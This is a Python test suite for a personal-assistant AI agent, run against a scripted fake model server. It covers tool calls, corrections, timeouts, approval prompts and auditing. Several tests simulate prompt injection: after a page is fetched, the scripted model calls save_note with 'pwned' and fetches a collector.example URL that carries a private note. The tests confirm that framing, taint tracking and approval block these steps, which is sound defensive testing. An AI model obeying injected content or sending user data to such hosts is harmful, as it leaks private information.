"""The agent end to end: the real OpenAI client against a fake server, real tools and storage."""

from __future__ import annotations

import asyncio

import pytest
from agent_fixtures import ME, build_rig
from fakehttp import Reply, fake_server
from llm_fixtures import call, chat_reply, chat_stream, error_reply

from assistant.agent import (
    AgentSettings,
    Done,
    Person,
    TextSoFar,
    Thinking,
    ToolFinished,
    ToolStarted,
)
from assistant.llm.types import AssistantMessage, ToolMessage, UserMessage
from tests.conftest import fetch


@pytest.fixture
async def server():
    async with fake_server() as fake:
        yield fake


@pytest.fixture
async def rig(server, conn, clock):
    built = await build_rig(server, conn, clock)
    yield built
    await built.inner.close()


def sent_messages(server, index: int) -> list[dict]:
    return server.requests[index].json()["messages"]


async def test_a_tool_call_cycle_ends_in_an_answer_and_is_stored(rig, server):
    server.script(chat_reply(None, (call("c1", "get_time", {}),)), chat_reply("It is 10:26."))
    answer = await rig.agent.reply(ME, "what time is it?")
    assert answer.text == "It is 10:26." and answer.steps == 2 and answer.ending == "answered"
    result = sent_messages(server, 1)[-1]
    assert result == {"role": "tool", "tool_call_id": "c1", "content": "10:26 CET"}
    system = sent_messages(server, 0)[0]["content"]
    assert "Saturday, 14 March 2026, 10:26" in system and "Europe/Berlin" in system
    assert "the personal assistant of Ada" in system and "exactly as the user said it" in system
    history = await rig.conversations.history(ME.chat_id)
    assert [type(m).__name__ for m in history] == [
        "UserMessage",
        "AssistantMessage",
        "ToolMessage",
        "AssistantMessage",
    ]


async def test_the_next_turn_sees_the_stored_conversation(rig, server):
    server.script(chat_reply("Hello Ada."), chat_reply("You said hi."))
    await rig.agent.reply(ME, "hi")
    await rig.agent.reply(ME, "what did I say?")
    contents = [m["content"] for m in sent_messages(server, 1)[1:]]
    assert contents == ["hi", "Hello Ada.", "what did I say?"]


async def test_clear_starts_afresh_without_deleting(rig, server):
    server.script(chat_reply("Hello."), chat_reply("Fresh."))
    await rig.agent.reply(ME, "hi")
    await rig.conversations.clear(ME.chat_id, ME.user_id)
    await rig.agent.reply(ME, "again")
    assert [m["content"] for m in sent_messages(server, 1)[1:]] == ["again"]


async def test_two_calls_in_one_reply_both_run_and_results_keep_their_order(rig, server):
    server.script(
        chat_reply(
            None, (call("c1", "save_note", {"content": "milk"}), call("c2", "get_time", {}))
        ),
        chat_reply("Done."),
    )
    await rig.agent.reply(ME, "note milk and tell the time")
    tools = [m for m in sent_messages(server, 1) if m["role"] == "tool"]
    assert [(m["tool_call_id"], m["content"]) for m in tools] == [
        ("c1", "saved note 1"),
        ("c2", "10:26 CET"),
    ]
    assert rig.effects.notes == ["milk"]


async def test_a_failing_tool_goes_back_to_the_model_as_an_error(rig, server):
    server.script(
        chat_reply(None, (call("c1", "broken_lookup", {"key": "x"}),)), chat_reply("Sorry.")
    )
    answer = await rig.agent.reply(ME, "look up x")
    (result,) = [m for m in sent_messages(server, 1) if m["role"] == "tool"]
    assert result["content"].startswith("ERROR: broken_lookup: no entry for 'x'")
    assert answer.text == "Sorry."


async def test_a_tool_timeout_is_reported_to_the_model(rig, server):
    server.script(chat_reply(None, (call("c1", "slow_lookup", {}),)), chat_reply("It timed out."))
    await rig.agent.reply(ME, "slow")
    (result,) = [m for m in sent_messages(server, 1) if m["role"] == "tool"]
    assert "did not finish within 0.05 s" in result["content"]


async def test_an_unknown_tool_is_corrected_once(rig, server):
    server.script(
        chat_reply(None, (call("c1", "get_tme", {}),)),
        chat_reply(None, (call("c2", "get_time", {}),)),
        chat_reply("10:26."),
    )
    answer = await rig.agent.reply(ME, "time?")
    (error,) = [m for m in sent_messages(server, 1) if m["role"] == "tool"]
    assert "There is no tool named 'get_tme'. Did you mean 'get_time'?" in error["content"]
    assert answer.text == "10:26." and answer.steps == 3


async def test_an_invalid_call_is_corrected_and_the_corrected_one_runs(rig, server):
    server.script(
        chat_reply(None, (call("c1", "save_note", {"text": "milk"}), call("c2", "get_time", {}))),
        chat_reply(None, (call("c3", "save_note", {"content": "milk"}),)),
        chat_reply("Saved."),
    )
    answer = await rig.agent.reply(ME, "note milk")
    errors = [m["content"] for m in sent_messages(server, 1) if m["role"] == "tool"]
    assert "content" in errors[0] and "required" in errors[0].lower()
    assert "not run: another call in this reply was invalid" in errors[1]
    assert rig.effects.notes == ["milk"] and answer.text == "Saved."


async def test_a_correction_that_fails_again_ends_the_turn_and_nothing_runs(rig, server):
    server.script(
        chat_reply(None, (call("c1", "save_note", {"text": "milk"}),)),
        chat_reply(
            None, (call("c2", "save_note", {"txt": "milk"}), call("c3", "transfer", {"amount": 5}))
        ),
    )
    answer = await rig.agent.reply(ME, "note milk")
    assert answer.ending == "invalid" and "nothing was run" in answer.text
    assert "save_note" in answer.text
    assert rig.effects.notes == [] and len(server.requests) == 2 and rig.prompts.shown == []
    # the stored history stays well formed: every call has a result
    history = await rig.conversations.history(ME.chat_id)
    calls = [c.id for m in history if isinstance(m, AssistantMessage) for c in m.calls]
    results = [m.call_id for m in history if isinstance(m, ToolMessage)]
    assert sorted(calls) == sorted(results)


async def test_max_steps_ends_with_a_graceful_account_of_what_was_done(server, conn, clock):
    rig = await build_rig(server, conn, clock, settings=AgentSettings(max_steps=2, stream=False))
    server.script(
        chat_reply(None, (call("c1", "save_note", {"content": "a"}),)),
        chat_reply(None, (call("c2", "get_time", {}),)),
    )
    answer = await rig.agent.reply(ME, "loop")
    assert answer.ending == "max_steps" and len(server.requests) == 2
    assert "stopped after 2 steps" in answer.text
    assert "- save_note: done" in answer.text and "- get_time: done" in answer.text
    await rig.inner.close()


async def test_a_404_refusing_tools_falls_back_to_text_mode_and_tells_the_user(rig, server):
    server.script(
        error_reply(404, "model test-model does not support tools"),
        chat_reply('```json\n{"tool": "get_time", "args": {}}\n```'),
        chat_reply("It is 10:26."),
    )
    answer = await rig.agent.reply(ME, "time?")
    assert answer.text.startswith("ℹ️ This model") and answer.text.endswith("It is 10:26.")
    results = sent_messages(server, 2)[-1]
    assert results["role"] == "user" and "[get_time] ok:\n10:26 CET" in results["content"]


async def test_a_rate_limit_is_retried_within_the_turn(rig, server):
    server.script(error_reply(429, "slow down", {"retry-after": "1"}), chat_reply("Here."))
    answer = await rig.agent.reply(ME, "hi")
    assert answer.text == "Here." and len(server.requests) == 2


async def test_a_provider_failure_is_told_plainly_and_the_message_kept(rig, server):
    server.script(error_reply(401, "Incorrect API key provided: sk-abc"))
    answer = await rig.agent.reply(ME, "hi")
    assert (
        answer.ending == "error"
        and "rejected the key" in answer.text
        and "sk-abc" not in answer.text
    )
    assert await rig.conversations.history(ME.chat_id) == [UserMessage("hi")]


async def test_untrusted_content_is_framed_and_later_side_effects_need_approval(
    server, conn, clock
):
    rig = await build_rig(server, conn, clock)
    server.script(
        chat_reply(None, (call("c1", "fetch_page", {"url": "https://weather.example/today"}),)),
        chat_reply(None, (call("c2", "save_note", {"content": "pwned"}),)),
    )
    answer = await rig.agent.reply(ME, "weather?")
    page = next(m for m in sent_messages(server, 1) if m["role"] == "tool")["content"]
    assert page.startswith("<<untrusted data from fetch_page") and "\u200b" not in page
    assert page.rstrip().endswith("<<end of untrusted data>>")
    assert [p.tool for p in rig.prompts.shown] == ["save_note"] and rig.effects.notes == []
    assert answer.ending == "awaiting" and "approval to run save_note" in answer.text
    assert len(server.requests) == 2  # the turn ended with the prompt
    assert "Declined" in (await rig.desk.answer(rig.prompts.shown[0].token, ME.user_id, False))
    (row, *_) = await rig.audit.recent(ME.user_id)
    assert row.tool == "save_note" and row.outcome == "denied" and row.approver == ME.user_id
    assert rig.effects.notes == []
    await rig.inner.close()


async def test_outside_content_still_in_the_input_taints_the_next_turn(server, conn, clock):
    rig = await build_rig(server, conn, clock)
    server.script(
        chat_reply(None, (call("c1", "fetch_page", {"url": "https://weather.example/today"}),)),
        chat_reply("Sunny."),
        chat_reply(None, (call("c2", "save_note", {"content": "pwned"}),)),
    )
    assert (await rig.agent.reply(ME, "weather?")).ending == "answered"
    answer = await rig.agent.reply(ME, "thanks")  # the page is still in the model's input
    assert answer.ending == "awaiting" and [p.tool for p in rig.prompts.shown] == ["save_note"]
    assert "holds outside content" in rig.prompts.shown[0].text and rig.effects.notes == []
    await rig.inner.close()


async def test_a_tainted_turn_asks_before_sending_to_a_host_nobody_named(server, conn, clock):
    rig = await build_rig(server, conn, clock)
    leak = "https://collector.example/c?q=my+private+note"
    server.script(
        chat_reply(None, (call("c1", "fetch_page", {"url": "https://weather.example/today"}),)),
        chat_reply(
            None,
            (
                call("c2", "fetch_page", {"url": "https://weather.example/today"}),  # in content
                call("c3", "fetch_page", {"url": "https://api.weather.example/week"}),  # named
                call("c4", "fetch_page", {"url": leak}),
            ),
        ),
    )
    answer = await rig.agent.reply(ME, "read weather.example/today please")
    (asked,) = rig.prompts.shown
    assert asked.tool == "fetch_page" and "collector.example is not a host you named" in asked.text
    assert answer.ending == "awaiting"
    history = await rig.conversations.history(ME.chat_id)
    tools = [m for m in history if isinstance(m, ToolMessage)]
    assert [t.content.startswith("<<untrusted") for t in tools] == [True, True, True, False]
    await rig.inner.close()


async def test_a_risky_tool_runs_only_when_approved(server, conn, clock):
    rig = await build_rig(server, conn, clock)
    server.script(chat_reply(None, (call("c1", "transfer", {"amount": 5}),)))
    answer = await rig.agent.reply(ME, "move 5")
    (asked,) = rig.prompts.shown
    assert (asked.tool, asked.user_id) == ("transfer", 42) and '"amount": 5' in asked.text
    assert answer.ending == "awaiting" and rig.effects.notes == []
    assert "done" in await rig.desk.answer(asked.token, ME.user_id, True)
    assert rig.effects.notes == ["transfer 5"]
    await rig.inner.close()


async def test_sources_are_not_repeated_when_the_model_cited_them(rig, server):
    url = "https://weather.example/today"
    server.script(
        chat_reply(None, (call("c1", "fetch_page", {"url": url}),)), chat_reply(f"Sunny ({url}).")
    )
    answer = await rig.agent.reply(ME, "weather?")
    assert answer.text == f"Sunny ({url})."


async def test_a_streamed_answer_with_a_streamed_tool_call(server, conn, clock):
    rig = await build_rig(server, conn, clock, settings=AgentSettings(stream=True))
    server.script(
        chat_stream(("Checking",), (call("c1", "get_time", {}),)),
        chat_stream(
            ("It is ", "10:26."),
        ),
    )
    events = []

    async def sink(event) -> None:
        events.append(event)

    answer = await rig.agent.reply(ME, "time?", sink)
    assert answer.text == "It is 10:26."
    assert events == [
        Thinking(),
        TextSoFar("Checking"),
        ToolStarted("c1", "get_time"),
        ToolFinished("c1", "get_time", True),
        Thinking(),
        TextSoFar("It is "),
        TextSoFar("It is 10:26."),
        Done(answer),
    ]
    await rig.inner.close()


async def test_stop_ends_a_turn_inside_a_model_call_and_keeps_the_history_sound(rig, server):
    held = asyncio.Event()
    server.script(Reply(json={}, hold=held))
    turn = asyncio.ensure_future(rig.turns.reply(ME, "think hard"))
    await server.arrived.wait()
    assert rig.turns.busy(ME.chat_id) and rig.turns.stop(ME.chat_id)
    answer = await turn
    held.set()
    assert answer.ending == "stopped" and not rig.turns.busy(ME.chat_id)
    assert await rig.conversations.history(ME.chat_id) == [UserMessage("think hard")]


async def test_stop_ends_a_turn_inside_a_tool_call(rig, server):
    server.script(chat_reply(None, (call("c1", "wait_for_release", {}),)))
    turn = asyncio.ensure_future(rig.turns.reply(ME, "wait"))
    await rig.effects.waiting.wait()
    assert rig.turns.stop(ME.chat_id)
    answer = await turn
    assert answer.ending == "stopped"
    history = await rig.conversations.history(ME.chat_id)
    assert isinstance(history[-1], ToolMessage) and "stopped" in history[-1].content
    (row,) = await rig.audit.recent(ME.user_id)
    assert row.outcome == "cancelled"


async def test_a_turn_over_its_wall_clock_budget_is_ended(server, conn, clock):
    rig = await build_rig(server, conn, clock)
    rig.turns._timeout = 0.05  # the budget itself is what is under test
    server.script(Reply(json={}, hold=asyncio.Event()))
    answer = await rig.turns.reply(ME, "slow")
    assert answer.ending == "timeout" and "longer than 0.05 s" in answer.text
    await rig.inner.close()


async def test_one_chat_is_answered_in_order_while_other_chats_go_ahead(rig, server):
    release = asyncio.Event()

    async def by_message(request):
        said = request.json()["messages"][-1]["content"]
        if said == "one":
            await release.wait()
        return chat_reply({"one": "first", "two": "second", "hello": "other chat"}[said])

    server.script(by_message, by_message, by_message)
    first = asyncio.ensure_future(rig.turns.reply(ME, "one"))
    second = asyncio.ensure_future(rig.turns.reply(ME, "two"))
    await server.arrived.wait()  # "one" is with the model; "two" waits its turn
    other = await rig.turns.reply(Person(7, 7), "hello")
    assert other.text == "other chat" and not first.done() and not second.done()
    release.set()
    assert [(await first).text, (await second).text] == ["first", "second"]
    two = server.requests[-1].json()["messages"]
    assert [m["content"] for m in two[1:]] == ["one", "first", "two"]


async def test_deep_or_huge_arguments_get_a_clear_refusal_an_audit_row_and_an_answer(
    server, conn, clock
):
    rig = await build_rig(server, conn, clock)
    deep: object = "x"
    for _ in range(800):
        deep = {"a": deep}
    server.script(
        chat_reply(None, (call("c1", "save_note", {"content": deep}),)),
        chat_reply(None, (call("c2", "save_note", {"content": "y" * 300_000}),)),
    )
    answer = await asyncio.wait_for(rig.agent.reply(ME, "save this"), 10)
    assert answer.ending == "invalid" and "nothing was run" in answer.text
    rows = await fetch(conn, "SELECT tool, outcome, length(arguments) FROM audit ORDER BY id")
    assert [r[:2] for r in rows] == [("save_note", "invalid"), ("save_note", "invalid")]
    assert all(r[2] < 25_000 for r in rows)
    history = await rig.conversations.history(ME.chat_id)  # the turn was stored, bounded
    calls = [c for m in history if isinstance(m, AssistantMessage) for c in m.calls]
    assert [c.arguments for c in calls] == [
        {"refused": "they are nested deeper than 32 levels"},
        {"refused": "they are larger than 200,000 characters"},
    ]
    assert rig.effects.notes == []
    await rig.inner.close()


async def test_the_same_side_effect_twice_in_a_turn_runs_once(server, conn, clock):
    rig = await build_rig(server, conn, clock)
    same = {"content": "buy milk"}
    server.script(
        chat_reply(None, (call("c1", "save_note", same), call("c2", "save_note", same))),
        chat_reply(None, (call("c3", "save_note", same),)),
        chat_reply("Saved."),
    )
    await rig.agent.reply(ME, "note: buy milk")
    assert rig.effects.notes == ["buy milk"]
    tools = [m for m in await rig.conversations.history(ME.chat_id) if isinstance(m, ToolMessage)]
    assert [("already done in this turn" in t.content) for t in tools] == [False, True, True]
    await rig.inner.close()


async def test_a_turn_creates_at_most_the_configured_number_of_tasks(server, conn, clock):
    settings = AgentSettings(stream=False, max_new_tasks=2, task_tools=frozenset({"save_note"}))
    rig = await build_rig(server, conn, clock, settings=settings)
    many = tuple(call(f"c{n}", "save_note", {"content": f"n{n}"}) for n in range(4))
    server.script(chat_reply(None, many), chat_reply("Done."))
    await rig.agent.reply(ME, "four notes")
    assert rig.effects.notes == ["n0", "n1"]
    await rig.inner.close()


async def test_spent_corrections_after_a_success_say_what_was_done(server, conn, clock):
    settings = AgentSettings(stream=False, corrections=0)
    rig = await build_rig(server, conn, clock, settings=settings)
    server.script(
        chat_reply(None, (call("c1", "save_note", {"content": "x"}),)),
        chat_reply(None, (call("c2", "no_such_tool", {}),)),
    )
    answer = await rig.agent.reply(ME, "do things")
    assert answer.ending == "invalid" and "I did: save_note" in answer.text
    assert "nothing was run" not in answer.text.replace("nothing more was run", "")
    await rig.inner.close()


async def test_an_answer_cut_by_the_length_limit_says_so(server, conn, clock):
    rig = await build_rig(server, conn, clock)
    server.script(chat_reply("The first half of a long", finish="length"))
    answer = await rig.agent.reply(ME, "tell me everything")
    assert answer.text.startswith("The first half") and "cut off" in answer.text
    await rig.inner.close()
